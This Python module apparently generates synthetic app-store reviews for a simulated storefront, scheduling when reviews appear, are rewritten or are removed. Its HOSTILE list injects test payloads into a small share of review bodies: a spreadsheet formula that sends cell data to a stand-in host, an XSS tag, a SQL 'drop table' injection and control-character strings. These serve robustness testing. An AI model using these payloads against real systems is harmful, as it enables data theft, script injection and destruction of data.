"""Reviews: what users write, when they change their mind, and when their words disappear. All of it follows from the moment.

The reviews of an app are numbered from its release on and come at an even pace, so the newest ones can be told without
telling the others first. One in 25 is rewritten later, and one in 33 taken away.
"""

from __future__ import annotations

import heapq
import math
from collections.abc import Iterator, Sequence
from datetime import datetime, timedelta
from itertools import islice
from typing import TypeVar

import msgspec

from penstock_systems.standins.appstore.app import DAY_SECONDS, FIRST_DAY, App
from penstock_systems.standins.appstore.catalogue import Catalogue
from penstock_systems.standins.appstore.chance import Draws, mix, pick, share_then
from penstock_systems.standins.appstore.genres import STOREFRONTS
from penstock_systems.standins.appstore.markets import Market

T = TypeVar("T")

WRITTEN_SHARE = 0.03  # of the ratings come with words
SHOWN_MAX = 500  # the newest ones; nobody sees the others
REWRITTEN_EVERY, REWRITTEN_WITHIN = 25, 200  # counted in reviews
TAKEN_EVERY, TAKEN_WITHIN = 33, 300
USUAL_COMPLAINTS, USUAL_MORE = 4, 3  # that users of a market write
HOSTILE_SHARE = 0.01
LIFE_DAYS_MIN = 30
IDS_AN_APP = 10_000_000

COMPLAINTS = (
    ("Lost everything", "After the update all my {0} was gone. Sync does not work and nobody answers."),
    ("Too expensive", "A subscription just for {0}? It used to be free, and now every button asks for money."),
    ("Crashes all the time", "It crashes as soon as I open {0}. I reinstalled it twice."),
    ("Ads everywhere", "An advertisement after every tap. I only wanted {0}, not ten videos a minute."),
    ("No widget", "There is still no widget for {0}, and no way to export anything."),
    ("Hard to use", "I could not find out how {0} works. The new design hides everything."),
    ("Useless offline", "Without internet it shows an empty page. I need {0} most where there is no signal."),
    ("Account required", "Why must I register with my email address to see {0}? I deleted it again."),
    ("Drains the battery", "My battery is empty by noon since I use it for {0}, and the phone gets hot."),
    ("Wrong numbers", "The statistics for {0} are wrong by half. I compared them with my own spreadsheet."),
    (
        "Notifications",
        "It sends me notifications about {0} at three in the morning. The setting to silence them is ignored.",
    ),
    ("No dark mode", "The white background blinds me at night. Everybody asks for a dark mode, and {0} stays white."),
    ("Cannot share", "I cannot share {0} with my partner. Two phones, two lists, and no way to merge them."),
    ("So slow", "Loading {0} takes half a minute on a phone of last year. It was quick before."),
)
PRAISE = (
    ("Love it", "Exactly what I was looking for. I use it for {0} every day."),
    ("Great for {0}", "Simple and fast, and it does {0} better than the others I tried."),
    ("Good", "Works well. A few more options for {0} would be nice."),
)
FONDNESS = (
    "My whole family uses it.",
    "I have it on the phone and on the tablet.",
    "The last update made {0} even better.",
)
MORE = (
    "I have tried many apps for {0} and they all have the same problem.",
    "Customer service took three weeks, and answered something that had nothing to do with my question.",
    "Please bring back the old version.",
    "It is fine on the phone, but on the tablet the {0} screen is cut off.",
    "The translation into my language was made by a machine.",
    "Restoring my purchase on a new phone failed.",
    "The search finds nothing unless every letter is right.",
    "There is no Apple Watch app for {0}.",
)
HOSTILE = (
    '=IMPORTXML(CONCAT("http://x.example/?",A1),"//a")',
    "<img src=x onerror=alert(1)>",
    "\u202eesrever\u202c \x00\x07\x1b[2J",
    "'); drop table app_reviews; --",
    "👎🏿" * 40,
    "no " * 2_500,
)


class Review(msgspec.Struct, frozen=True):
    id: int
    stars: int
    title: str
    body: str
    author: str
    version: str
    updated: datetime
    votes: int
    helpful: int


def complaint_of(catalogue: Catalogue, market: Market) -> tuple[str, str]:
    """What the users of a market miss most: half of the unhappy ones say this."""
    return _complaints(catalogue, market)[0]


def _complaints(catalogue: Catalogue, market: Market) -> list[tuple[str, str]]:
    """What users of a market complain about at all, the most common first."""
    return _some(COMPLAINTS, USUAL_COMPLAINTS, mix(catalogue.seed, 96, market.number))


def _some(of: Sequence[T], count: int, luck: int) -> list[T]:
    """A few that stand apart in a list: each market has its own."""
    return [of[(luck + turn * (1 + luck // len(of) % 3)) % len(of)] for turn in range(count)]


def newest(catalogue: Catalogue, app: App, now: datetime, country: str, start: int, count: int) -> list[Review]:
    """The reviews of a moment, the last changed first."""
    moments = _moments(app, now, country)
    return [
        _review(catalogue, app, country, *moment) for moment in islice(moments, start, min(start + count, SHOWN_MAX))
    ]


def most_helpful(catalogue: Catalogue, app: App, now: datetime, country: str, start: int, count: int) -> list[Review]:
    shown = newest(catalogue, app, now, country, 0, SHOWN_MAX)
    return sorted(shown, key=lambda review: (-review.helpful, review.id))[start : start + count]


def _moments(app: App, now: datetime, country: str) -> Iterator[tuple[float, int, bool]]:
    """(the day it was last changed, its number, whether it was rewritten), the latest first."""
    today = (now - FIRST_DAY).total_seconds() / DAY_SECONDS
    written = int(app.rating_count(0, country) * WRITTEN_SHARE)
    if not written or today < app.released:
        return iter(())
    gap = max(LIFE_DAYS_MIN, -app.released) / written
    code = STOREFRONTS[country].id
    last = math.floor((today - app.released) / gap)

    begins = mix(app.index, code, 97)  # and `share_then` of it is `share(app.index, code, 97, number)`

    def begun(number: int) -> float:
        return app.released + (number + 0.1 + 0.8 * share_then(begins, number)) * gap

    def within(number: int, salt: int, reviews: int) -> float:
        return begun(number) + (1 + mix(app.index, code, salt, number) % reviews) * gap

    def there(number: int) -> bool:
        taken = (number + app.index) % TAKEN_EVERY == 0 and within(number, 98, TAKEN_WITHIN) <= today
        return not taken

    def rewritten(number: int) -> float | None:
        changes = (number + app.index) % REWRITTEN_EVERY == 7
        changed = within(number, 99, REWRITTEN_WITHIN) if changes else math.inf
        return changed if changed <= today else None

    reach = range(last, max(-1, last - SHOWN_MAX - REWRITTEN_WITHIN - TAKEN_WITHIN), -1)
    plain = (
        (since, number, False)
        for number in reach
        if rewritten(number) is None and (since := begun(number)) <= today and there(number)
    )
    again = [
        (changed, number, True)
        for number in reach
        if (number + app.index) % REWRITTEN_EVERY == 7 and (changed := rewritten(number)) is not None and there(number)
    ]
    return heapq.merge(plain, sorted(again, reverse=True), reverse=True)


def _review(catalogue: Catalogue, app: App, country: str, day: float, number: int, rewritten: bool) -> Review:
    draws = Draws(app.index, STOREFRONTS[country].id, 95, number, rewritten)
    stars = _stars(draws, app.stars)
    market = catalogue.place(app.index)[0]
    word = app.keywords[number % len(app.keywords)]
    if stars >= 4:
        title, body = draws.pick(PRAISE)
    else:
        usual = _complaints(catalogue, market)
        title, body = usual[0] if draws.share() < 0.5 else draws.pick(usual)
    rest = FONDNESS if stars >= 4 else _some(MORE, USUAL_MORE, mix(catalogue.seed, 94, market.number))
    more = (draws.pick(rest) for _ in range(int(draws.skewed(0.8 if stars >= 4 else 2.0, 0.8))))
    text = " ".join([body, *more]).format(word)
    if draws.share() < HOSTILE_SHARE:
        text = f"{draws.pick(HOSTILE)} {text}"
    votes = int(draws.skewed(0.7, 1.2))
    stores = list(STOREFRONTS)
    return Review(
        id=10**10 + (app.index * len(stores) + stores.index(country)) * IDS_AN_APP + number,
        stars=stars,
        title=("Changed my mind: " if rewritten else "") + title.format(word),
        body=text,
        author=pick(("reader{0}", "quiet_fox{0}", "Ольга{0}", "山田{0}", "🦊{0}"), app.index, number).format(
            number % 9_973
        ),
        version=app.version(app.versions(day) - 1),
        updated=(FIRST_DAY + timedelta(days=day)).replace(microsecond=0),
        votes=votes,
        helpful=int(votes * draws.share() + 0.5),
    )


def _stars(draws: Draws, mean: float) -> int:
    """Words come from the delighted and, more often than stars alone, from the angry."""
    luck = draws.share()
    pleased = max(0.05, min(0.95, (mean - 1.2) / 3.8))
    if luck < pleased:
        return 5 if luck < 0.88 * pleased else 4
    rest = (luck - pleased) / (1 - pleased)
    return 1 if rest < 0.72 else 2 if rest < 0.85 else 3
